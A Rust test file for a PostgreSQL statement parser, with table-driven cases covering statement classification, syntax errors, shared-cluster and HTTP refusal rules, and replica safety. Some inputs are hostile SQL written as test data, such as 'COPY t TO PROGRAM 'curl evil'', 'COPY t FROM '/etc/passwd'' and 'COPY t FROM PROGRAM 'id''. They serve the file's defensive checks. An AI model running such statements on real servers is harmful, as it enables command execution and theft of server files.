//! The statement model, table-driven: each text with the one-line summary of
//! every statement the parser finds in it.

use super::parser::parse_text;
use super::rules;
use super::statement::{Access, SessionEffect, Statement};

fn summary(s: &Statement) -> String {
    let mut p: Vec<String> = vec![s.kind.as_str().to_owned()];
    if let Some(t) = s.transaction {
        p.push(format!(
            "tx:{}",
            serde_json::to_value(t).ok().and_then(|v| v.as_str().map(str::to_owned)).unwrap_or_default()
        ));
    }
    if let Some(d) = &s.ddl {
        p.push(format!("ddl:{}:{}", d.action, d.object));
    }
    if let Some(e) = s.explain {
        p.push(format!("explain:{}{}", e.inner.as_str(), if e.analyze { "+analyze" } else { "" }));
    }
    if s.writes {
        p.push("writes".into());
    }
    if s.opaque {
        p.push("opaque".into());
    }
    if s.copy_server_side {
        p.push("server-file".into());
    }
    for r in &s.relations {
        p.push(format!("{}:{}", if r.access == Access::Write { "w" } else { "r" }, r.qualified()));
    }
    for f in &s.functions {
        p.push(format!("f:{f}"));
    }
    for e in &s.session {
        p.push(match e {
            SessionEffect::Set { name, local, value } => {
                format!("set{}:{name}={}", if *local { "-local" } else { "" }, value.as_deref().unwrap_or("?"))
            }
            SessionEffect::SetConfig { name, value, local } => format!(
                "set-config:{}={}{}",
                name.as_deref().unwrap_or("?"),
                value.as_deref().unwrap_or("?"),
                match local {
                    Some(true) => ",local",
                    Some(false) => "",
                    None => ",?",
                }
            ),
            SessionEffect::Reset { name } => format!("reset:{}", name.as_deref().unwrap_or("all")),
            SessionEffect::SessionCharacteristics => "session-characteristics".into(),
            SessionEffect::Discard(t) => format!("discard:{t:?}").to_ascii_lowercase(),
            SessionEffect::Listen { channel } => format!("listen:{channel}"),
            SessionEffect::Unlisten { channel } => format!("unlisten:{}", channel.as_deref().unwrap_or("*")),
            SessionEffect::TempObject => "temp".into(),
            SessionEffect::Prepare { name } => format!("prepare:{name}"),
            SessionEffect::Deallocate { name } => format!("deallocate:{}", name.as_deref().unwrap_or("all")),
            SessionEffect::HoldCursor => "hold-cursor".into(),
            SessionEffect::Load => "load".into(),
            SessionEffect::AdvisoryLock => "advisory-lock".into(),
            SessionEffect::AdvisoryUnlock => "advisory-unlock".into(),
        });
    }
    p.join(" ")
}

/// (text, one summary per statement).
const CASES: &[(&str, &[&str])] = &[
    // Plain and ORM-style queries.
    ("SELECT abalance FROM pgbench_accounts WHERE aid = $1", &["select r:pgbench_accounts"]),
    ("UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2", &["update writes w:pgbench_accounts"]),
    (
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)",
        &["insert writes w:pgbench_history"],
    ),
    ("DELETE FROM notes WHERE id = $1 RETURNING id", &["delete writes w:notes"]),
    (
        "SELECT \"users\".\"id\", \"users\".\"email\" FROM \"users\" WHERE \"users\".\"id\" = $1 LIMIT $2",
        &["select r:users"],
    ),
    (
        "SELECT u.id, count(o.id) FROM public.users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.id HAVING count(o.id) > 2 ORDER BY 2 DESC",
        &["select r:public.users r:orders f:count"],
    ),
    ("SELECT * FROM \"Mixed\".\"CaseTable\"", &["select r:Mixed.CaseTable"]),
    ("SELECT lower(name), now(), pg_catalog.length(name) FROM t", &["select r:t f:lower f:now f:pg_catalog.length"]),
    ("SELECT app.score(x) FROM t", &["select writes opaque r:t f:app.score"]),
    ("SELECT my_func(1)", &["select writes opaque f:my_func"]),
    ("SELECT * FROM generate_series(1, 10) g", &["select f:generate_series"]),
    ("SELECT id FROM t WHERE id IN (SELECT tid FROM secret)", &["select r:t r:secret"]),
    ("SELECT (SELECT max(x) FROM hidden) AS m", &["select r:hidden f:max"]),
    ("SELECT coalesce((SELECT x FROM inner_t LIMIT 1), 0)", &["select r:inner_t"]),
    ("SELECT * FROM t1 UNION ALL SELECT * FROM t2", &["select r:t1 r:t2"]),
    ("SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.a = a.id) x", &["select r:a r:b"]),
    ("SELECT * FROM t FOR UPDATE", &["select writes r:t"]),
    ("SELECT nextval('s')", &["select writes f:nextval"]),
    ("VALUES (1), (2)", &["select"]),
    ("TABLE secret", &["select r:secret"]),
    ("INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a", &["insert writes w:t"]),
    ("INSERT INTO archive SELECT * FROM live WHERE ts < now()", &["insert writes w:archive r:live f:now"]),
    ("UPDATE t SET v = s.v FROM src s WHERE s.id = t.id", &["update writes w:t r:src"]),
    (
        "MERGE INTO target t USING source s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
        &["merge writes w:target r:source"],
    ),
    // CTEs: names in scope are not relations; writing CTEs are writes.
    ("WITH a AS (SELECT 1) SELECT * FROM a", &["select"]),
    ("WITH a AS (SELECT * FROM secret) SELECT * FROM a", &["select r:secret"]),
    ("WITH a AS (SELECT * FROM a) SELECT * FROM a", &["select r:a"]),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", &["select"]),
    ("SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) x, secret", &["select r:secret"]),
    ("WITH d AS (DELETE FROM queue RETURNING *) SELECT * FROM d", &["select writes w:queue"]),
    ("WITH secret AS (SELECT 1) DELETE FROM secret RETURNING *", &["delete writes w:secret"]),
    ("WITH secret AS (SELECT 1) INSERT INTO secret SELECT * FROM secret", &["insert writes w:secret"]),
    ("SELECT query_to_xml('select * from secret', true, false, '')", &["select writes opaque f:query_to_xml"]),
    ("WITH a AS (SELECT 1) SELECT * INTO t6 FROM a", &["select ddl:create:table writes w:t6"]),
    ("SELECT 1 AS x INTO t3", &["select ddl:create:table writes w:t3"]),
    ("SELECT * INTO TEMP tmp1 FROM t", &["select ddl:create:table writes w:tmp1 r:t temp"]),
    // COPY.
    ("COPY secret TO STDOUT", &["copy-to r:secret"]),
    ("COPY (SELECT * FROM secret) TO STDOUT WITH (FORMAT csv)", &["copy-to r:secret"]),
    ("COPY t (a, b) FROM STDIN", &["copy-from writes w:t"]),
    ("COPY t FROM '/etc/passwd'", &["copy-from writes server-file w:t"]),
    ("COPY t TO PROGRAM 'curl evil'", &["copy-to server-file r:t"]),
    // DDL.
    ("CREATE TABLE t (id bigint PRIMARY KEY, body text)", &["ddl ddl:create:table writes w:t"]),
    ("CREATE TEMP TABLE x (a int)", &["ddl ddl:create:table writes w:x temp"]),
    ("CREATE TEMP TABLE x (a int) ON COMMIT DROP", &["ddl ddl:create:table writes w:x"]),
    ("CREATE TABLE t5 AS SELECT 1", &["ddl ddl:create:table writes w:t5"]),
    ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", &["ddl ddl:create:materialized view writes w:mv r:t"]),
    ("CREATE INDEX CONCURRENTLY i ON t (a)", &["ddl ddl:create:index writes w:t"]),
    ("CREATE VIEW v AS SELECT * FROM secret", &["ddl ddl:create:view writes w:v r:secret"]),
    ("ALTER TABLE t ADD COLUMN c int", &["ddl ddl:alter:table writes w:t"]),
    ("DROP TABLE IF EXISTS t, s.u CASCADE", &["ddl ddl:drop:table writes w:t w:s.u"]),
    ("DROP FUNCTION f(int)", &["ddl ddl:drop:function writes"]),
    ("TRUNCATE t", &["truncate writes w:t"]),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", &["ddl ddl:create:function writes"]),
    ("CREATE EXTENSION IF NOT EXISTS pg_trgm", &["ddl ddl:create:extension writes"]),
    ("CREATE SCHEMA app", &["ddl ddl:create:schema writes"]),
    ("GRANT SELECT ON t TO public", &["ddl ddl:grant:table writes r:t"]),
    ("COMMENT ON TABLE t IS 'x'", &["ddl ddl:comment:table writes"]),
    ("ALTER ROLE current_user PASSWORD 'x'", &["ddl ddl:alter:role writes"]),
    ("ALTER ROLE current_user SET statement_timeout = 0", &["ddl ddl:alter:role writes"]),
    ("ALTER DATABASE db CONNECTION LIMIT 1000", &["ddl ddl:alter:database writes"]),
    ("ALTER SYSTEM SET work_mem = '1GB'", &["ddl ddl:alter:system writes"]),
    // Procedural and opaque code.
    ("DO $$BEGIN EXECUTE 'CREATE TABLE t2(i int)'; END$$", &["do writes opaque"]),
    ("CALL refresh_all(1)", &["call writes opaque f:refresh_all"]),
    ("PREPARE q(int) AS SELECT * FROM t WHERE id = $1", &["prepare r:t prepare:q"]),
    ("EXECUTE q(1)", &["execute writes opaque"]),
    ("DEALLOCATE q", &["deallocate deallocate:q"]),
    ("DEALLOCATE ALL", &["deallocate deallocate:all"]),
    // EXPLAIN.
    ("EXPLAIN SELECT * FROM t", &["explain explain:select r:t"]),
    ("EXPLAIN INSERT INTO t VALUES (1)", &["explain explain:insert w:t"]),
    ("EXPLAIN ANALYZE CREATE TABLE t5 AS SELECT 1", &["explain ddl:create:table explain:ddl+analyze writes w:t5"]),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", &["explain explain:delete+analyze writes w:t"]),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", &["explain explain:delete w:t"]),
    // Transactions.
    ("BEGIN", &["transaction tx:begin"]),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", &["transaction tx:begin"]),
    ("COMMIT", &["transaction tx:commit"]),
    ("END", &["transaction tx:commit"]),
    ("ROLLBACK", &["transaction tx:rollback"]),
    ("SAVEPOINT s1", &["transaction tx:savepoint"]),
    ("ROLLBACK TO SAVEPOINT s1", &["transaction tx:rollback-to"]),
    ("RELEASE s1", &["transaction tx:release"]),
    ("PREPARE TRANSACTION 'x'", &["transaction tx:two-phase"]),
    // Session state.
    ("SET search_path TO a, b", &["set set:search_path=?"]),
    ("SET statement_timeout = 0", &["set set:statement_timeout=0"]),
    ("SET LOCAL statement_timeout = '5s'", &["set set-local:statement_timeout=5s"]),
    ("set application_name to 'x'", &["set set:application_name=x"]),
    ("SET TIME ZONE 'UTC'", &["set set:timezone=UTC"]),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", &["set"]),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", &["set session-characteristics"]),
    ("SET statement_timeout TO DEFAULT", &["set set:statement_timeout=?"]),
    ("RESET search_path", &["reset reset:search_path"]),
    ("RESET ALL", &["reset reset:all"]),
    ("SHOW search_path", &["show"]),
    ("SELECT set_config('search_path', 'x', false)", &["select f:set_config set-config:search_path=x"]),
    (
        "SELECT set_config('statement_timeout', '0', true)",
        &["select f:set_config set-config:statement_timeout=0,local"],
    ),
    ("SELECT set_config(name, 'x', false) FROM t", &["select r:t f:set_config set-config:?=x"]),
    ("DISCARD ALL", &["discard discard:all"]),
    ("DISCARD PLANS", &["discard discard:plans"]),
    ("LISTEN chan", &["listen listen:chan"]),
    ("UNLISTEN *", &["unlisten unlisten:*"]),
    ("NOTIFY chan, 'x'", &["notify writes"]),
    ("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t", &["cursor r:t hold-cursor"]),
    ("DECLARE c CURSOR FOR SELECT 1", &["cursor"]),
    ("FETCH 10 FROM c", &["cursor"]),
    ("SELECT pg_advisory_lock(4242)", &["select f:pg_advisory_lock advisory-lock"]),
    (
        "SELECT pg_try_advisory_lock(1), pg_advisory_unlock(1)",
        &["select f:pg_try_advisory_lock f:pg_advisory_unlock advisory-lock advisory-unlock"],
    ),
    ("SELECT pg_advisory_xact_lock(1)", &["select f:pg_advisory_xact_lock"]),
    ("LOAD 'auto_explain'", &["utility load"]),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", &["lock writes r:t"]),
    ("VACUUM ANALYZE t", &["maintenance writes r:t"]),
    // Multi-statement texts.
    ("select 1; select 2 from x; commit", &["select", "select r:x", "transaction tx:commit"]),
    (
        "BEGIN; SET LOCAL work_mem = '1GB'; SELECT ';'; COMMIT;",
        &["transaction tx:begin", "set set-local:work_mem=1GB", "select", "transaction tx:commit"],
    ),
    ("CREATE SCHEMA s; SET search_path TO s", &["ddl ddl:create:schema writes", "set set:search_path=s"]),
    ("SELECT 'x;SET y=1'", &["select"]),
    ("-- only a comment\n;", &[]),
];

#[test]
fn statement_model_table() {
    let mut failures = Vec::new();
    for (sql, expected) in CASES {
        let parsed = match parse_text(sql) {
            Ok(p) => p,
            Err(e) => {
                failures.push(format!("{sql:?}: parse error {e}"));
                continue;
            }
        };
        let got: Vec<String> = parsed.statements.iter().map(summary).collect();
        if got != *expected {
            failures.push(format!("{sql:?}\n   got  {got:?}\n   want {expected:?}"));
        }
    }
    assert!(CASES.len() >= 60, "the table holds {} cases", CASES.len());
    assert!(failures.is_empty(), "{} of {} cases differ:\n{}", failures.len(), CASES.len(), failures.join("\n"));
}

#[test]
fn statements_carry_their_own_text() {
    let p = parse_text("  SELECT 1 ;\n  SELECT 'a;b';SELECT 3").expect("parses");
    let texts: Vec<(&str, usize)> = p.statements.iter().map(|s| (s.text.as_str(), s.offset)).collect();
    assert_eq!(texts, vec![("SELECT 1", 2), ("SELECT 'a;b'", 15), ("SELECT 3", 28)]);
}

#[test]
fn syntax_errors_as_postgres_reports_them() {
    let e = parse_text("SELEC 1").expect_err("bad");
    assert_eq!((e.message.as_str(), e.position), ("syntax error at or near \"SELEC\"", Some(1)));
    let e = parse_text("SELECT (").expect_err("bad");
    assert_eq!((e.message.as_str(), e.position), ("syntax error at end of input", Some(9)));
    let e = parse_text("select 1 from from").expect_err("bad");
    assert_eq!(e.position, Some(15));
    let e = parse_text("SELECT 1; SELECT from from; SELECT 2").expect_err("bad");
    assert_eq!(e.position, Some(23));
    let e = parse_text("SELECT 'é', 'abc").expect_err("bad");
    assert_eq!((e.message.as_str(), e.position), ("unterminated quoted string at or near \"'abc\"", Some(13)));
    assert!(parse_text("SELECT 1\0").is_err());
}

#[test]
fn hostile_texts_do_not_crash() {
    let deep = format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000));
    let _ = parse_text(&deep);
    let wide = format!("SELECT {}", vec!["f(1)"; 20_000].join(", "));
    assert!(parse_text(&wide).is_ok());
    let _ = parse_text(&"'".repeat(100_000));
    let _ = parse_text(&"$$".repeat(1000));
    let huge = format!("SELECT '{}'", "x".repeat(super::parser::MAX_TEXT));
    let e = parse_text(&huge).expect_err("over the limit");
    assert_eq!(e.sqlstate(), "54000");
}

#[test]
fn shared_cluster_rules() {
    let refused =
        |sql: &str| parse_text(sql).expect("parses").statements.iter().find_map(|s| rules::shared_cluster(s).err());
    for sql in [
        "ALTER ROLE current_user PASSWORD 'x'",
        "ALTER USER current_user CONNECTION LIMIT 1000",
        "ALTER ROLE current_user SET statement_timeout = 0",
        "ALTER DATABASE d IS_TEMPLATE true",
        "ALTER DATABASE d SET work_mem = '1GB'",
        "CREATE ROLE r",
        "ALTER SYSTEM SET max_connections = 1",
        "CREATE TABLESPACE ts LOCATION '/tmp'",
        "LOAD 'x'",
        "COPY t FROM PROGRAM 'id'",
        "COPY t TO '/tmp/x'",
        "SET standard_conforming_strings = off",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SET SESSION AUTHORIZATION other",
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'big5'",
        "SELECT set_config('client_encoding', 'Shift_JIS_2004', false)",
        "SELECT set_config('standard_conforming_strings', v, false) FROM t",
        "SELECT set_config('standard_conforming_' || 'strings', 'off', true)",
    ] {
        let r = refused(sql).unwrap_or_else(|| panic!("{sql} should be refused"));
        assert!(r.rule.starts_with("shared-cluster."), "{sql}: {r}");
    }
    for sql in [
        "SELECT 1",
        "CREATE TABLE t (a int)",
        "SET standard_conforming_strings = on",
        "SET standard_conforming_strings TO DEFAULT",
        "SET client_encoding = 'UTF8'",
        "SET NAMES 'LATIN1'",
        "COPY t FROM STDIN",
    ] {
        assert_eq!(refused(sql), None, "{sql}");
    }
}

#[test]
fn http_statement_rules() {
    let ceilings = rules::Ceilings {
        statement_timeout_ms: 30_000,
        work_mem: ("64MB".into(), 65_536.0),
        maintenance_work_mem: ("256MB".into(), 262_144.0),
    };
    let check = |sql: &str| {
        parse_text(sql).expect("parses").statements.iter().try_for_each(|s| rules::http_statement(s, &ceilings))
    };
    for sql in [
        "COMMIT",
        "BEGIN",
        "ROLLBACK",
        "END",
        "SET statement_timeout = 0",
        "SET LOCAL statement_timeout = 0",
        "SET LOCAL statement_timeout = '1h'",
        "SET LOCAL statement_timeout TO DEFAULT",
        "SELECT set_config('statement_timeout', '0', true)",
        "SET LOCAL work_mem = '4GB'",
        "SET LOCAL work_mem = 65537",
        "SET LOCAL maintenance_work_mem = '1GB'",
        "SELECT set_config('work_mem', '128MB', true)",
        "SET LOCAL temp_file_limit = -1",
        "SET LOCAL idle_in_transaction_session_timeout = 0",
        "SET LOCAL idle_in_transaction_session_timeout = '1h'",
        "RESET work_mem",
        "RESET ALL",
        "RESET statement_timeout",
        "PREPARE p AS SELECT 1",
        "SELECT set_config(n, 'x', true) FROM t",
    ] {
        assert!(check(sql).is_err(), "{sql} should be refused");
    }
    for sql in [
        "SELECT 1",
        "SAVEPOINT a",
        "ROLLBACK TO SAVEPOINT a",
        "SET LOCAL statement_timeout = '5s'",
        "SET LOCAL work_mem = '64MB'",
        "SET LOCAL work_mem = 1024",
        "SELECT set_config('maintenance_work_mem', '200MB', true)",
        "SET LOCAL idle_in_transaction_session_timeout = '10s'",
        "SET LOCAL search_path TO x",
        "SELECT set_config('app.user', '42', true)",
        "SET search_path TO x",
        "RESET search_path",
        "CREATE TEMP TABLE x (a int)",
        "SELECT pg_advisory_xact_lock(1)",
    ] {
        assert_eq!(check(sql), Ok(()), "{sql}");
    }
}

/// Every reusable model of the table, instantiated by shape for its own
/// text and for the text with its literals changed, equals a fresh parse.
#[test]
fn shapes_reuse_models_exactly() {
    use crate::sql::shape::{instantiate, reusable, shape_of};
    let mut reused = 0;
    for (sql, _) in CASES {
        let (Ok(p), Some(sh)) = (parse_text(sql), shape_of(sql)) else { continue };
        if !reusable(&p) {
            continue;
        }
        reused += 1;
        assert_eq!(instantiate(&p.statements[0], sql, &sh).statements, p.statements, "{sql}");
        // The same text with every digit changed (numbers stay numbers).
        let other: String = sql.chars().map(|c| if c.is_ascii_digit() { '7' } else { c }).collect();
        if let (Ok(fresh), Some(osh)) = (parse_text(&other), shape_of(&other))
            && osh.bytes == sh.bytes
        {
            assert_eq!(instantiate(&p.statements[0], &other, &osh).statements, fresh.statements, "{other}");
        }
    }
    assert!(reused >= 30, "{reused} reusable cases");
}

#[test]
fn replica_safe_statements() {
    let safe = [
        "SELECT * FROM t WHERE id = $1",
        "SELECT count(*), now() FROM a JOIN b USING (id)",
        "WITH x AS (SELECT 1) SELECT * FROM x",
        "SHOW search_path",
        "COPY (SELECT 1) TO STDOUT",
        "EXPLAIN SELECT * FROM t",
        "BEGIN READ ONLY",
        "START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY",
        "SELECT pg_sleep(0.01)",
    ];
    let primary = [
        "BEGIN",
        "BEGIN READ WRITE",
        "START TRANSACTION",
        "SELECT * FROM t FOR UPDATE",
        "SELECT nextval('s')",
        "SELECT txid_current()",
        "SELECT my_function(1)",
        "SELECT * INTO t2 FROM t",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "SELECT set_config('a.b', 'c', false)",
        "SELECT pg_advisory_lock(1)",
        "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
        "INSERT INTO t VALUES (1)",
        "SET search_path TO x",
        "COPY t FROM STDIN",
        "DECLARE c CURSOR FOR SELECT 1",
        "LISTEN x",
        "DO $$ BEGIN END $$",
        "CREATE TABLE t (a int)",
    ];
    for sql in safe {
        let p = parse_text(sql).expect("parses");
        assert!(p.statements.iter().all(Statement::replica_safe), "{sql} should be replica-safe");
    }
    for sql in primary {
        let p = parse_text(sql).expect("parses");
        assert!(!p.statements.iter().all(Statement::replica_safe), "{sql} needs the primary");
    }
}
